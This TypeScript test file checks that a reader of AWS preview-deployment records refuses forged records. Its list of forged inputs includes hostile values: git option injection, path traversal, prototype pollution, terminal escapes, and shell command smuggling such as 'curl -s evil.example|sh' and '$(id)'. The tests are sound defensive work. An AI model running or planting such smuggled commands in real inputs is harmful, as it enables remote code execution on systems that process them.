import { AwsRecords } from '../../../lib/aws/s3/records';
import type { PreviewRecord } from '../../../lib/ports/record';
import { recordOf } from '../../contracts/aws/records.contract';
import { oddAws } from '../odd-aws';
import type { Answer } from '../odd-endpoint';

const aws = oddAws();
const { odd } = aws;
const location = {
  bucket: 'bundles',
  targetId: 'login',
  stackId:
    'arn:aws:cloudformation:eu-central-1:111122223333:stack/shop-preview-login/0a1b2c3d-0000-4000-8000-000000000001',
};
const record = recordOf(location);
const [deploy] = record.deploys;

const stored = (body: string): Answer => ({ body, headers: { etag: '"e1"', 'content-type': 'application/json' } });
const secret = 'arn:aws:secretsmanager:eu-central-1:111122223333:secret:copy-a1B2c3';

const warning = {
  at: '2026-11-30T00:00:00Z',
  goesAt: '2026-12-01T00:00:00Z',
  said: ['comment', 'chat'],
} as const;

/** What a job of any branch could write into the record of any preview. */
const forged: readonly (readonly [string, object])[] = [
  ['a commit that is an option of git', { commit: '--upload-pack=touch' }],
  ['a commit that is a reference', { commit: 'refs/heads/main' }],
  ['a commit that is cut', { commit: 'a'.repeat(39) }],
  ['a commit with text behind it', { commit: `${'a'.repeat(40)}\n# merged` }],
  ['a deploy of no commit', { deploys: [{ ...deploy, commit: 'latest' }] }],
  ['a deploy at a time in words', { deploys: [{ ...deploy, at: 'tomorrow' }] }],
  ['a bundle of another folder', { deploys: [{ ...deploy, bundles: { web: '../../staging/bundles/x' } }] }],
  ['a bundle that is no hash', { deploys: [{ ...deploy, bundles: { web: 'B'.repeat(64) } }] }],
  ['a service with markup in its name', { deploys: [{ ...deploy, bundles: { '<b>': 'b'.repeat(64) } }] }],
  ['a service named after the prototype', { platforms: JSON.parse('{"__proto__":"x"}') }],
  ['a thousand deploys', { deploys: Array.from({ length: 1000 }, () => deploy) }],
  ['a subject with control characters', { deploys: [{ ...deploy, subject: 'fix\u001b[2J' }] }],
  ['a subject in two lines', { deploys: [{ ...deploy, subject: 'fix\nmain' }] }],
  ['a subject that turns its direction', { deploys: [{ ...deploy, subject: 'fix \u202egnp' }] }],
  ['a subject without an end', { deploys: [{ ...deploy, subject: 'x'.repeat(1000) }] }],
  ['a person who is an object', { deploys: [{ ...deploy, by: { name: 'x' } }] }],
  ['data in other words', { deploys: [{ ...deploy, data: 'whatever' }] }],
  ['a way back to no commit', { deploys: [{ ...deploy, back: { from: deploy?.commit, to: 'main' } }] }],
  [
    'a way back of a service with markup',
    { deploys: [{ ...deploy, back: { from: deploy?.commit, to: deploy?.commit, services: ['<b>'] } }] },
  ],
  ['a failure without a code', { failed: [{ ...deploy, ended: 'failed', because: 'no' }] }],
  ['a failure with a code that is a path', { failed: [{ ...deploy, ended: 'failed', code: '../x', because: 'no' }] }],
  ['a failure that ended in other words', { failed: [{ ...deploy, ended: 'well', code: 'x', because: 'no' }] }],
  ['a failure with a second line', { failed: [{ ...deploy, ended: 'failed', code: 'x', because: 'a\nb' }] }],
  [
    'a thousand failures',
    { failed: Array.from({ length: 1000 }, () => ({ ...deploy, ended: 'failed', code: 'x', because: 'no' })) },
  ],
  ['a rollback to a path', { goingBack: { ...deploy, bundles: { web: '../../staging/bundles/x' } } }],
  ['a platform that is an image', { platforms: { web: 'ami-0a1b2c3d4e5f67890' } }],
  ['a platform of another service', { platforms: { web: 'arn:aws:lambda:eu-central-1::platform/x/1' } }],
  ['a name of a platform with control characters', { platformNames: { web: 'nodejs-22\u001b[2J' } }],
  ['a branch with a line break', { branch: 'login\nmain' }],
  ['times of a type with markup', { durations: { create: { '<b>': [1] } } }],
  ['times in words', { durations: { update: { stack: ['long'] } } }],
  ['times below zero', { durations: { create: { stack: [-1] } } }],
  ['times of another operation', { durations: { destroy: { stack: [1] } } }],
  ['a thousand times', { durations: { create: { stack: Array.from({ length: 1000 }, () => 1) } } }],
  ['a seed of a database that is a path', { seed: { state: 'done', database: 'a b;drop' } }],
  ['a snapshot with a wildcard', { snapshot: { id: '*', credentials: secret } }],
  ['credentials that are a password', { snapshot: { id: 'shop-1', credentials: 'hunter2' } }],
  ['credentials with a wildcard', { snapshot: { id: 'shop-1', credentials: `${secret}*` } }],
  ['a snapshot without a user', { snapshot: { id: 'shop-1' } }],
  ['a user of a snapshot with a quote', { snapshot: { id: 'shop-1', username: "shop'" } }],
  ['a promise without an end', { keepUntil: '+275760-09-13T00:00:00.000Z' }],
  ['a promise in words', { keepUntil: '1 January 2099' }],
  ['a warning in words', { expiryWarning: { at: 'now', goesAt: '2026-12-01T00:00:00Z', said: [] } }],
  ['a warning in a place that is none', { expiryWarning: { ...warning, said: ['<b>'] } }],
  ['a warning in a hundred places', { expiryWarning: { ...warning, said: Array(100).fill('chat') } }],
  ['a dropped property that is a command', { dropped: { 'shop-x--web': ['plain X;curl -s evil.example|sh'] } }],
  ['a dropped property with a substitution', { dropped: { 'shop-x--web': ['plain $(id)'] } }],
  ['a dropped property with a second line', { dropped: { 'shop-x--web': ['plain X\nY'] } }],
  ['sleep that is a text', { asleep: 'yes' }],
  ['another stack', { stackId: location.stackId.replace('login', 'other') }],
];

test.each(forged)('a record with %s is refused', async (_, change) => {
  odd.say(stored(JSON.stringify({ ...record, ...change })));
  await expect(new AwsRecords(aws.clients).read(location)).rejects.toMatchObject({ code: 'record-unreadable' });
});

test('a record that a program could not hold is refused before it is read', async () => {
  const body = JSON.stringify({ ...record, colour: 'x'.repeat(2 * 1024 * 1024) });
  odd.say({ body, headers: { etag: '"e1"', 'content-length': String(Buffer.byteLength(body)) } });
  await expect(new AwsRecords(aws.clients).read(location)).rejects.toMatchObject({ code: 'record-unreadable' });
});

test('a record with more levels than can be written again is refused', async () => {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  odd.say(stored(`${JSON.stringify(record).slice(0, -1)},"colour":${deep}}`));
  await expect(new AwsRecords(aws.clients).read(location)).rejects.toMatchObject({ code: 'record-unreadable' });
});

test('what our own deploys write is read', async () => {
  const whole: PreviewRecord = {
    ...record,
    commit: 'f'.repeat(64),
    platforms: {
      web: 'arn:aws-us-gov:elasticbeanstalk:us-gov-west-1::platform/Node.js 22 running on 64bit Amazon Linux 2023/6.6.6',
      api: 'arn:aws:elasticbeanstalk:eu-central-1:111122223333:platform/ours/1.0.2',
    },
    platformNames: { web: 'nodejs-22' },
    snapshot: { id: 'rds:shop-2026-11-21-03-10', credentials: secret, newestOf: 'shop' },
    expiryWarning: warning,
  };
  const back = { from: 'e'.repeat(40), to: record.commit, services: ['web'] };
  const deployed = {
    ...(deploy ?? record.deploys[0]),
    subject: 'Grüße 🚀',
    by: 'Ada',
    data: 'kept',
    back,
  } as PreviewRecord['deploys'][number];
  const kept: PreviewRecord = {
    ...whole,
    deploys: [deployed],
    goingBack: deployed,
    failed: [{ ...deployed, ended: 'failed', code: 'stack-failed', because: 'no' }],
  };
  const named = { ...whole, snapshot: { id: 'shop-1', username: 'Owner_1' } };
  for (const one of [whole, named, kept]) {
    odd.say(stored(JSON.stringify(one)));
    expect((await new AwsRecords(aws.clients).read(location))?.record).toEqual(one);
  }
});
